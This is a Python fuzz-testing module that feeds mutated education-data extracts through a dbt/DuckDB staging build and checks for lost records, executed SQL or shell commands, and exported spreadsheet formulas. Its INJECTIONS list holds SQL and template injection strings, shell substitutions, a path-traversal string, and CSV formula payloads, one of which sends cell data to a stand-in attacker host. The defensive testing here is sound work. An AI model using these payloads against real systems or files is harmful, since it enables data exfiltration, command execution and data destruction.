"""Mutated extract files through staging, by the thousand: the part `fuzz` of ``python -m bench.soak``.

Files of every source system are broken in every way that comes to mind and built in batches. A file may stop a build,
which then has to name it; then the build has to go through without it. Of every file that was read, each record has to
be accounted for; nothing in a file may have been taken for SQL; and no cell of a CSV export may be a formula.
"""

from __future__ import annotations

import csv
import gzip
import json
import random
import shutil
import tempfile
from collections import Counter
from collections.abc import Callable, Sequence
from contextlib import chdir
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

import duckdb

from bench.measure import PROJECT
from lernhaus.dbt_runner import environment, failures_of, run_dbt
from lernhaus.extracts import inspect_file
from lernhaus.publish.export import export
from lernhaus.publish.publish import literal, quoted

SYSTEMS = ("oneroster", "xapi", "moodle", "oulad", "post_labels")
_CANARY = "staging.canary"
INJECTIONS = (
    f"'); drop table {_CANARY}; select ('",
    f'"); drop table {_CANARY}; --',
    f"'; drop table {_CANARY}; --",
    f"{{{{ run_query('drop table {_CANARY}') }}}}",
    "{% do adapter.drop_schema(this) %}",
    "${LERNHAUS_PSEUDONYM_SECRET} $(touch injected) `touch injected`",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "../../../etc/passwd",
    "s3://bucket/*.csv",
    "\u202ereversed",
    "\ufeff",
    "null",
    "NaN",
    "1e400",
    "9" * 400,
    "2024-02-30",
    "0001-01-01",
)  # fmt: skip
_HUGE = (10_000, 300_000, 2_500_000)
# a build that stops that often in one batch has a fault that is no file's
_MOST_ROUNDS = 40

_ROSTER = {
    "orgs.csv": "sourcedId,name,type,parentSourcedId\no1,University,school,\no2,Biology,department,o1\n",
    "academicSessions.csv": "sourcedId,title,type,startDate,endDate\nt1,Spring,term,2025-01-06,2025-03-31\n",
    "courses.csv": "sourcedId,title,courseCode,orgSourcedId\nk1,Biology,BIO,o2\nk2,Botany,BOT,o2\n",
    "classes.csv": "sourcedId,title,courseSourcedId,termSourcedIds\nc1,Biology A,k1,t1\nc2,Botany A,k2,t1\n",
    "users.csv": (
        "sourcedId,enabledUser,username,givenName,familyName,primaryOrgSourcedId,metadata.region\n"
        'u1,true,ida,Ida,"Doe, Ida",o2,Hessen\nu2,true,bo,Bo,"Line\nbreak",o2,\nu3,false,cy,Cy,Çelik,o1,Berlin\n'
    ),
    "demographics.csv": "sourcedId,birthDate,sex\nu1,1990-02-01,female\nu2,1960-01-01,male\n",
    "enrollments.csv": (
        "sourcedId,classSourcedId,userSourcedId,role,beginDate,endDate\n"
        "e1,c1,u1,student,2025-01-06,\ne2,c1,u2,student,2025-01-06,2025-02-01\ne3,c2,u3,teacher,2025-01-06,\n"
    ),
    "lineItems.csv": (
        "sourcedId,title,dueDate,classSourcedId,categorySourcedId,resultValueMin,resultValueMax,metadata.weight\n"
        "a1,Quiz,2025-02-01,c1,cat-quiz,0,10,1\na2,Final,,c1,cat-final-grade,,,\n"
    ),
    "results.csv": (
        "sourcedId,lineItemSourcedId,studentSourcedId,scoreStatus,score,scoreDate,textScore,comment\n"
        'r1,a1,u1,fully graded,7.5,2025-02-02,,"one\ntwo"\nr2,a1,u2,fully graded,3,2025-02-02,,\n'
    ),
}
_OULAD = {
    "courses.csv": "code_module,code_presentation,module_presentation_length\nAAA,2013J,268\nBBB,2014B,234\n",
    "assessments.csv": (
        "code_module,code_presentation,id_assessment,assessment_type,date,weight\n"
        "AAA,2013J,10,TMA,19,40\nAAA,2013J,11,Exam,?,60\nBBB,2014B,20,CMA,30,100\n"
    ),
    "vle.csv": (
        "id_site,code_module,code_presentation,activity_type,week_from,week_to\n"
        "100,AAA,2013J,forumng,?,?\n102,AAA,2013J,quiz,1,2\n200,BBB,2014B,url,?,?\n"
    ),
    "studentInfo.csv": (
        "code_module,code_presentation,id_student,gender,region,highest_education,imd_band,age_band,"
        "num_of_prev_attempts,studied_credits,disability,final_result\n"
        "AAA,2013J,1,F,Wales,HE Qualification,10-20,35-55,0,60,N,Pass\n"
        'AAA,2013J,2,M,"East Anglian, Region",A Level,?,0-35,1,60,Y,Withdrawn\n'
    ),
    "studentRegistration.csv": (
        "code_module,code_presentation,id_student,date_registration,date_unregistration\n"
        "AAA,2013J,1,-30,?\nAAA,2013J,2,-10,12\n"
    ),
    "studentAssessment.csv": "id_assessment,id_student,date_submitted,is_banked,score\n10,1,18,0,78\n10,2,25,1,?\n",
    "studentVle.csv": (
        "code_module,code_presentation,id_student,id_site,date,sum_click\n"
        + "".join(f"AAA,2013J,{1 + i % 2},{100 + 2 * (i % 2)},{i},{1 + i % 7}\n" for i in range(40))
    ),
}  # fmt: skip
_LABELS = (
    "source_system,post_id,label_kind,value,rater,labelled_at\n"
    "xapi,p1,urgency,5,ann,2025-02-01 10:00:00\nxapi,p2,confusion,2,ben,2025-02-02 10:00:00\n"
)
_MOODLE_HEADER = "Time,User full name,Affected user,Event context,Component,Event name,Description,Origin,IP address\n"


def _moodle(chance: random.Random) -> str:
    return _MOODLE_HEADER + "".join(
        f'"{day}/03/24, 14:05",Ann Ex,-,Course: Statistics,System,Course viewed,'
        f"\"The user with id '{chance.randint(2, 9)}' viewed the course with id '70'.\",web,192.0.2.9\n"
        for day in range(13, 13 + chance.randint(1, 8))
    )


def _statements(chance: random.Random) -> str:
    lines = []
    for _ in range(chance.randint(1, 8)):
        statement = {
            "id": f"{chance.getrandbits(32):08x}-0000-4000-8000-{chance.getrandbits(48):012x}",
            "actor": {"account": {"homePage": "https://campus.lernhaus.example", "name": f"u{chance.randint(1, 3)}"}},
            "verb": {"id": "http://adlnet.gov/expapi/verbs/experienced"},
            "object": {
                "id": f"https://lms.lernhaus.example/pages/{chance.randint(1, 9)}",
                "definition": {"name": {"en": "A page"}, "type": "http://activitystrea.ms/schema/1.0/page"},
            },
            "result": {"response": "I am läst", "duration": "PT2M", "score": {"raw": 7, "min": 0, "max": 10}},
            "context": {"contextActivities": {"parent": [{"id": "https://lms.lernhaus.example/runs/c1"}]}},
            "timestamp": f"2025-02-{chance.randint(1, 28):02}T10:00:00Z",
        }
        lines.append(json.dumps(statement, ensure_ascii=chance.random() < 0.5))
    return "\n".join(lines) + "\n"


# Mutations of the bytes of any file.


def _flip_bits(data: bytes, chance: random.Random) -> bytes:
    changed = bytearray(data)
    for _ in range(chance.randint(1, 8)):
        if changed:
            changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def _truncate(data: bytes, chance: random.Random) -> bytes:
    return data[: chance.randint(0, len(data))]


def _cut_out(data: bytes, chance: random.Random) -> bytes:
    start = chance.randint(0, len(data))
    return data[:start] + data[start + chance.randint(1, 40) :]


def _insert(data: bytes, chance: random.Random) -> bytes:
    at = chance.randint(0, len(data))
    signs = chance.choice([b'"', b"\n", b"\r", b"\r\n", b"\0", b"\1", b",", b"\\", b"\xff\xfe", b"\xe2\x80\xa8", b'""'])
    return data[:at] + signs * chance.choice([1, 1, 1, 2, 50]) + data[at:]


def _repeat(data: bytes, chance: random.Random) -> bytes:
    lines = data.splitlines(keepends=True)
    return data + b"".join(chance.choices(lines, k=chance.randint(1, 5))) if lines else data


def _recode(data: bytes, chance: random.Random) -> bytes:
    text = data.decode(errors="replace")
    encoding = chance.choice(["utf-16", "utf-16-le", "latin-1", "cp1252", "utf-8-sig", "utf-32", "utf-7"])
    return text.encode(encoding, errors="replace")


def _other_line_ends(data: bytes, chance: random.Random) -> bytes:
    ends = [b"\n", b"\r\n", b"\r", b"\n\n", b"\r\r\n"]
    if chance.random() < 0.5:
        return data.replace(b"\n", chance.choice(ends))
    return b"".join(line.rstrip(b"\n") + chance.choice(ends) for line in data.splitlines(keepends=True))


# Mutations of cells: of a CSV record, or of the members of a statement.


def _bad_value(chance: random.Random) -> str:
    if chance.random() < 0.03:
        return chance.choice("xя\U0001f600") * chance.choice(_HUGE)
    return chance.choice(INJECTIONS)


def _spoil_cells(data: bytes, chance: random.Random) -> bytes:
    text = data.decode(errors="replace")
    if text.startswith("{"):
        return _spoil_members(text, chance).encode()
    rows = list(csv.reader(text.splitlines(keepends=True)))
    for _ in range(chance.randint(1, 4)):
        row = chance.choice(rows[1:] or rows)
        if row:
            row[chance.randrange(len(row))] = _bad_value(chance)
    return _as_csv(rows).encode()


def _swap_columns(data: bytes, chance: random.Random) -> bytes:
    text = data.decode(errors="replace")
    if text.startswith("{"):
        return _spoil_members(text, chance).encode()
    rows = list(csv.reader(text.splitlines(keepends=True)))
    width = len(rows[0])
    a, b = chance.randrange(width), chance.randrange(width)
    with_header = chance.random() < 0.5
    for row in rows[0 if with_header else 1 :]:
        if len(row) == width:
            row[a], row[b] = row[b], row[a]
    return _as_csv(rows).encode()


def _as_csv(rows: list[list[str]]) -> str:
    return "".join(
        ",".join(f'"{cell.replace(chr(34), chr(34) * 2)}"' if set(cell) & set('",\r\n') else cell for cell in row)
        + "\n"
        for row in rows
    )


def _spoil_members(text: str, chance: random.Random) -> str:
    lines = text.splitlines()
    number = chance.randrange(len(lines))
    statement = json.loads(lines[number])
    holder = statement
    while True:
        name = chance.choice(list(holder)) if isinstance(holder, dict) else chance.randrange(len(holder))
        if isinstance(holder[name], (dict, list)) and holder[name] and chance.random() < 0.7:
            holder = holder[name]
            continue
        odd: list[object] = [_bad_value(chance), None, [], {}, -1, 1e308, True, [[{}]], {"id": {"id": []}}]
        holder[name] = odd[0] if chance.random() < 0.6 else chance.choice(odd)
        lines[number] = json.dumps(statement)
        return "\n".join(lines) + "\n"


MUTATIONS: dict[str, Callable[[bytes, random.Random], bytes]] = {
    "bits flipped": _flip_bits,
    "truncated": _truncate,
    "piece cut out": _cut_out,
    "signs inserted": _insert,
    "lines repeated": _repeat,
    "another encoding": _recode,
    "other line ends": _other_line_ends,
    "cells spoiled": _spoil_cells,
    "columns swapped": _swap_columns,
}


@dataclass
class Figures:
    """What became of the files and of their records."""

    files: int = 0
    unusable: int = 0
    stopped: int = 0
    builds: int = 0
    rows_in: int = 0
    rows_refused: int = 0
    cells: int = 0
    mutations: Counter[str] = field(default_factory=Counter)

    def __str__(self) -> str:
        kinds = ", ".join(f"{name} {count:,}" for name, count in sorted(self.mutations.items()))
        return (
            f"{self.files:,} mutated files in {self.builds} builds of staging: {self.unusable:,} cannot be used as a "
            f"whole ({self.stopped:,} of them stopped a build, which named them); of the {self.rows_in:,} records in "
            f"the others {self.rows_refused:,} are in quarantine and none is unaccounted for; no SQL of theirs was "
            f"run; no formula among {self.cells:,} exported cells ({kinds})"
        )


class Extracts:
    """A folder with files of all source systems, of which each is mutated."""

    def __init__(self, folder: Path, chance: random.Random, systems: Sequence[str] = SYSTEMS) -> None:
        self.folder = folder
        self.systems = systems
        self.chance = chance
        self.mutated: dict[str, str] = {}
        self._originals: dict[str, bytes] = {}

    def fill(self, files: int) -> None:
        """Write about so many mutated files: whole deliveries of a roster, many exports, and one OULAD."""
        if "oulad" in self.systems:
            for name, text in _OULAD.items():
                self._write(f"oulad/{name}", text)
        drops = max(1, files // 50) if "oneroster" in self.systems else 0
        for number in range(drops):
            day = date(2025, 1, 1) + timedelta(number)
            for name, text in _ROSTER.items():
                self._write(f"oneroster/{day}/{name}", text)
        rest = max(3, files - len(self.mutated))
        for number in range(rest):
            if number % 3 == 0:
                self._write(f"moodle/{self._odd('run')}{number}/log.csv", _moodle(self.chance))
            elif number % 3 == 1:
                self._write(f"post_labels/{self._odd('labels')}{number}.csv", _LABELS)
            else:
                self._write(f"xapi/{self._odd('statements')}{number}.jsonl", _statements(self.chance))

    def _odd(self, name: str) -> str:
        """A name, at times an odd one: no part of it may mean anything to SQL, a shell, a template or a pattern."""
        odd = self.chance.choice(INJECTIONS[:8]).replace("/", "_")
        return f"{odd[:60]} {name}" if self.chance.random() < 0.1 else name

    def _write(self, name: str, text: str) -> None:
        kind = self.chance.choice(list(MUTATIONS))
        data = MUTATIONS[kind](text.encode(), self.chance)
        original = text.encode()
        if self.chance.random() < 0.2:
            name += ".gz"
            original = gzip.compress(original)
            data = gzip.compress(data)
            if self.chance.random() < 0.3:
                kind = self.chance.choice(["bits flipped", "truncated"])
                data = MUTATIONS[kind](data, self.chance)
        path = self.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.mutated[name] = kind
        self._originals[name] = original

    def named_in(self, message: str) -> list[str]:
        """The mutated files that a message names."""
        return [name for name in self.mutated if name in message]

    def unusable(self) -> list[str]:
        """The mutated files that are not whole, or whose header is not that of the original."""
        return [name for name in self.mutated if self._is_unusable(name)]

    def _is_unusable(self, name: str) -> bool:
        is_csv = ".csv" in name
        with tempfile.TemporaryDirectory() as scratch:
            found = inspect_file(str(self.folder / name), is_csv, Path(scratch))
        if found.problem or not is_csv:
            return found.problem is not None
        original = self._originals[name]
        text = (gzip.decompress(original) if name.endswith(".gz") else original).decode()
        header = found.header or []
        return "" in header or len(set(header)) < len(header) or not set(text.split("\n")[0].split(",")) <= set(header)

    def put_right(self, name: str) -> None:
        """Put the original in the place of a mutated file."""
        (self.folder / name).write_bytes(self._originals[name])
        del self.mutated[name]


def _failures(folder: Path, systems: Sequence[str]) -> list[str]:
    """Build staging; return the messages of what failed."""
    result = run_dbt(
        [
            *("build", "--select", "path:models/staging", "path:models/meta", "path:seeds"),
            *("--exclude-resource-type", "test", "unit_test", "--quiet", "--no-write-json", "--log-level-file", "none"),
            *("--vars", json.dumps({"source_systems": list(systems), "moodle_date_order": "dmy"})),
            *("--profiles-dir", str(PROJECT), "--target-path", str(folder / "target")),
            *("--log-path", str(folder / "logs")),
        ]
    )
    return failures_of(result)


def check(database: Path, extracts: Extracts, folder: Path, figures: Figures) -> None:
    """Raise ``RuntimeError`` where a record is lost, SQL was run, or a formula exported."""
    with duckdb.connect(str(database)) as connection:
        files = connection.execute(
            "select source_file, rows_in, "
            "rows_staged + rows_quarantined + rows_redelivered + rows_erased + rows_expired, rows_quarantined "
            "from meta_source_file"
        ).fetchall()
        if lost := [row[:3] for row in files if row[1] != row[2]]:
            raise RuntimeError(f"records lost or made up (file, records in it, accounted for): {lost}")
        if absent := extracts.mutated.keys() - {name for name, *_ in files}:
            raise RuntimeError(f"files that nothing is said of: {absent}")
        if connection.execute(f"select * from {_CANARY}").fetchall() != [(1,)]:
            raise RuntimeError(f"{_CANARY} is not as it was")
        texts = connection.execute(
            "select schema_name, table_name, column_name from duckdb_columns() where data_type = 'VARCHAR' "
            "and schema_name in ('staging', 'main') and not internal and (starts_with(table_name, 'stg_') "
            "or starts_with(table_name, 'meta_'))"
        ).fetchall()
        values = " union all ".join(
            f"select {quoted(column)} as cell from {schema}.{quoted(table)}" for schema, table, column in texts
        )
        connection.execute(f"attach {literal(str(folder / 'cells.duckdb'))} as cells")
        connection.execute(f"create table cells.main.cell as select distinct left(cell, 2000) as cell from ({values})")
    if (PROJECT / "injected").exists():
        raise RuntimeError("a shell command of a file was run")
    export(folder / "cells.duckdb", folder / "csv", format="csv")
    with (folder / "csv" / "cell" / "cell.csv").open(encoding="utf-8", newline="") as file:
        cells = [row[0] for row in csv.reader(file) if row]
    if formulas := [cell for cell in cells if cell.startswith(tuple("=+-@\t\r\n＝＋－＠"))]:
        raise RuntimeError(f"cells that a spreadsheet takes for formulas: {formulas}")
    figures.cells += len(cells)
    figures.rows_in += sum(row[1] for row in files)
    figures.rows_refused += sum(row[3] for row in files)


def fuzz(
    work: Path, files: int, seed: int, batch: int, say: Callable[[str], None], systems: Sequence[str] = SYSTEMS
) -> Figures:
    """Put so many mutated files through staging, a batch at a time; return the figures.

    The first build of a batch has all of them, and stops at one unusable file of each kind; the other unusable ones are
    then put right with it, which saves a build for each.

    Raises ``RuntimeError`` where a build stops without naming a file, or where what it makes of the files is not right;
    the folder of the batch then stays in ``work``.
    """
    figures = Figures()
    number = 0
    while figures.files < files:
        number += 1
        folder = work / f"batch-{number}"
        extracts = Extracts(folder / "extracts", random.Random(f"{seed} {number}"), systems)
        extracts.fill(min(batch, files - figures.files))
        database = folder / "lernhaus.duckdb"
        with duckdb.connect(str(database)) as connection:
            connection.execute(f"create schema staging; create table {_CANARY} as select 1 as bird")
        figures.files += len(extracts.mutated)
        figures.mutations.update(extracts.mutated.values())
        settings = {"LERNHAUS_EXTRACTS": str(extracts.folder), "LERNHAUS_DATABASE": str(database)}
        with environment(settings), chdir(PROJECT):
            for _ in range(_MOST_ROUNDS):
                figures.builds += 1
                failures = _failures(folder, systems)
                for failure in failures:
                    named = extracts.named_in(failure)
                    if not named:
                        raise RuntimeError(f"seed {seed}, {folder}: a build stopped without naming a file: {failure}")
                    figures.stopped += len(named)
                    figures.unusable += len(named)
                    for name in named:
                        extracts.put_right(name)
                if not failures:
                    break
                for name in extracts.unusable():
                    figures.unusable += 1
                    extracts.put_right(name)
            else:
                raise RuntimeError(f"seed {seed}, {folder}: {_MOST_ROUNDS} builds stopped")
        check(database, extracts, folder, figures)
        say(f"batch {number}: {figures.files:,} files, {figures.unusable:,} unusable, {figures.builds} builds")
        shutil.rmtree(folder)
    return figures
